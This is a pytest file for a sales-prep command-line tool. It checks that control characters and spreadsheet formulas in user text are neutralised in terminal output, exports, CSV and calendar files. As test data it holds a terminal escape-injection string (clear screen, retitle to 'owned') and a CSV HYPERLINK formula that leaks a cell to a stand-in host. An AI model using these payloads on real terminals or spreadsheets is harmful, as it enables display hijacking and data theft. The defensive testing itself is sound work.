"""Text from the rep and from files reaches a terminal inert: every control character shown, none acted on."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from pathlib import Path

import msgspec
import pytest

from helpers import NOW, debriefed_meeting
from prep.cli import main
from prep.insights.followups import open_followups
from prep.model.meeting import FollowUp
from prep.reports.calendar import followups_ics
from prep.reports.export import export_csv
from prep.reports.inert import CONTROLS, inert
from prep.storage import Store

# Every C0 character (tab and newline too: they must survive), DEL and every C1 character.
EVERY_CONTROL = "".join(map(chr, [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]))
# A terminal told to clear itself, set its title and ring, then an 8-bit CSI.
HOSTILE = f"Acme \x1b[2J\x1b]0;owned\x07{EVERY_CONTROL}\x9b31m"


def acted_on(text: str) -> list[str]:
    """The characters of `text` a terminal would act on (a CR LF line end only ends a line)."""
    return sorted({repr(c) for c in text.replace("\r\n", "\n") if ord(c) in CONTROLS})


def test_every_control_character_but_tab_and_newline_is_shown_as_an_escape() -> None:
    shown = inert(EVERY_CONTROL)
    assert acted_on(shown) == []
    assert "\t" in shown and "\n" in shown
    assert "\\x1b" in shown and "\\x9b" in shown and "\\x7f" in shown and "\\x00" in shown and "\\r" in shown
    assert inert("Müller & Söhne — ½ “quoted”") == "Müller & Söhne — ½ “quoted”"  # printable text stays as it is


def test_one_line_shows_a_newline_too() -> None:
    assert inert("two\nlines\r\n", one_line=True) == "two\\nlines\\r\\n"


@pytest.fixture
def hostile_db(db_path: Path) -> Path:
    """A meeting whose every field the rep types holds every control character."""
    meeting = debriefed_meeting(HOSTILE, 2, outcome=HOSTILE, notes=HOSTILE, followups=[
        FollowUp(text=HOSTILE, due=NOW.date() - timedelta(days=1)),
        FollowUp(text=f"call {HOSTILE}", due=date(2026, 12, 24), owner="customer"),
    ])
    meeting.contact, meeting.goal = HOSTILE, HOSTILE
    meeting.checklist = msgspec.structs.replace(meeting.checklist, title=HOSTILE)  # the trainer export shows it
    meeting.answers["needs/situation"].text = HOSTILE
    store = Store(db_path)
    store.save(meeting)
    store.close()
    return db_path


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def test_followups_are_printed_inert(hostile_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "--db", str(hostile_db), "followups")
    assert code == 0, err
    assert acted_on(out) == []
    assert "\\x1b[2J" in out
    assert len(out.splitlines()) == 2  # one line a follow-up, however many newlines the text holds


@pytest.mark.parametrize("form", ["md", "csv", "json", "trainer"])
def test_exports_on_stdout_are_inert(hostile_db: Path, capsys: pytest.CaptureFixture[str], form: str) -> None:
    code, out, err = run(capsys, "--db", str(hostile_db), "export", "--format", form)
    assert code == 0, err
    assert acted_on(out) == []


def test_the_json_export_stays_the_same_data_however_it_is_written(
    hostile_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "--db", str(hostile_db), "export", "--format", "json")
    assert code == 0
    written = tmp_path / "backup.json"
    assert main(["--db", str(hostile_db), "export", "--format", "json", "-o", str(written)]) == 0
    assert acted_on(written.read_text(encoding="utf-8")) == []  # C0 by json itself, DEL and C1 by prep
    meeting = json.loads(out)["meetings"][0]
    assert meeting["customer"] == HOSTILE and meeting["debrief"]["notes"] == HOSTILE
    on_screen, in_file = json.loads(out), json.loads(written.read_text(encoding="utf-8"))
    # Each export says when it was written: two exports a moment apart may fall on either side of a second.
    assert in_file.pop("exported")[:10] == on_screen.pop("exported")[:10]
    assert in_file == on_screen


def test_the_markdown_export_is_inert_in_a_file_too(hostile_db: Path, tmp_path: Path) -> None:
    written = tmp_path / "briefs.md"
    assert main(["--db", str(hostile_db), "export", "--format", "md", "-o", str(written)]) == 0
    text = written.read_text(encoding="utf-8")
    assert acted_on(text) == [] and "# Acme \\x1b[2J" in text


def test_forget_asks_and_answers_inert(
    hostile_db: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []
    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
    monkeypatch.setattr("builtins.input", lambda prompt: asked.append(prompt) or "no")
    code, out, _ = run(capsys, "--db", str(hostile_db), "forget", "Acme")
    assert code == 1
    assert acted_on(out + asked[0]) == [] and "\\x1b]0;owned\\x07" in asked[0]
    code, out, err = run(capsys, "--db", str(hostile_db), "forget", HOSTILE, "--yes")
    assert code == 0, err
    assert acted_on(out) == [] and out.startswith("This erases Acme \\x1b[2J")


@pytest.mark.parametrize(
    "args",
    [
        ("export", "--customer", f"nobody {HOSTILE}"),  # names the customer it cannot find
        ("export", "--customer", "acme"),  # lists the customers that match
        ("export", "-o", str(Path("/nonexistent") / HOSTILE.replace("\x00", "").replace("/", ""))),  # names the path
        ("import", HOSTILE.replace("\x00", "")),
        ("checklists", "validate", HOSTILE.replace("\x00", "")),
        ("followups", "--no-such-option", HOSTILE),  # argparse repeats what it did not understand
    ],
    ids=["unknown-customer", "several-customers", "unwritable-path", "unreadable-import", "validate-missing", "argparse"],
)
def test_error_messages_are_one_inert_line(
    hostile_db: Path, capsys: pytest.CaptureFixture[str], args: tuple[str, ...]
) -> None:
    store = Store(hostile_db)
    store.save(debriefed_meeting(f"acme {HOSTILE}", 3))
    store.close()
    try:
        code, out, err = run(capsys, "--db", str(hostile_db), *args)
    except SystemExit as stop:
        code, (out, err) = int(str(stop.code)), capsys.readouterr()
    assert code in (1, 2)
    assert acted_on(out + err) == []
    assert "\\x1b[2J" in out + err


def test_checklist_text_is_listed_and_validated_inert(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    team = tmp_path / "team"
    team.mkdir()
    # YAML's double quotes spell any character: \e is ESC, \x9b an 8-bit CSI.
    title = '"Team \\e[2J\\e]0;owned\\a \\x9b31m call"'
    (team / "call.yaml").write_text(
        f"schema: 1\nid: team-call\ntitle: {title}\nsections:\n  - id: n\n    kind: needs\n    title: {title}\n"
        "    items:\n      - id: a\n        prompt: What hurts?\n", encoding="utf-8")
    (team / "broken.yaml").write_text('schema: 1\nid: broken\ntitle: x\n"sec\\e[2Jtions\\nx": []\n', encoding="utf-8")
    monkeypatch.setenv("PREP_CHECKLISTS", str(team))
    code, out, err = run(capsys, "checklists", "list")
    assert code == 0, err
    assert acted_on(out) == [] and "Team \\x1b[2J\\x1b]0;owned\\x07 \\x9b31m call" in out
    assert "sec\\x1b[2Jtions\\nx" in out  # the unknown key, on its problem's one line
    code, out, err = run(capsys, "checklists", "validate", str(team))
    assert code == 1
    assert acted_on(out + err) == [] and "sec\\x1b[2Jtions\\nx" in out


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_no_csv_cell_starts_a_formula(db_path: Path, start: str) -> None:
    formula = f'{start}HYPERLINK("https://example.invalid/?leak="&A1;"Open")'
    meeting = debriefed_meeting(formula, 2, outcome=formula, followups=[FollowUp(text=formula, due=NOW.date())])
    meeting.contact, meeting.goal = formula, formula
    meeting.checklist = msgspec.structs.replace(meeting.checklist, title=formula)
    store = Store(db_path)
    store.save(meeting)
    header, row = csv.reader(io.StringIO(export_csv(store, None)))
    cells = dict(zip(header, row))
    for column in ("customer", "contact", "goal", "checklist", "outcome", "open_followups"):
        assert cells[column].startswith("'" + formula), column  # the text itself is kept, after the quote
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_calendar_file_holds_no_control_character(db_path: Path) -> None:
    from icalendar import Calendar

    meeting = debriefed_meeting(HOSTILE, 2, followups=[FollowUp(text=HOSTILE, due=NOW.date(), id=f"id{HOSTILE}")])
    store = Store(db_path)
    store.save(meeting)
    data = followups_ics(open_followups(store), NOW)
    lines = data.decode("utf-8").split("\r\n")  # RFC 5545 ends (and folds) lines with CR LF
    assert [line for line in lines if "\n" in line or "\r" in line or acted_on(line)] == []
    event = Calendar.from_ical(data).walk("VEVENT")[0]
    assert "\\x1b[2J" in str(event["summary"]) and "\\x00" in str(event["summary"])
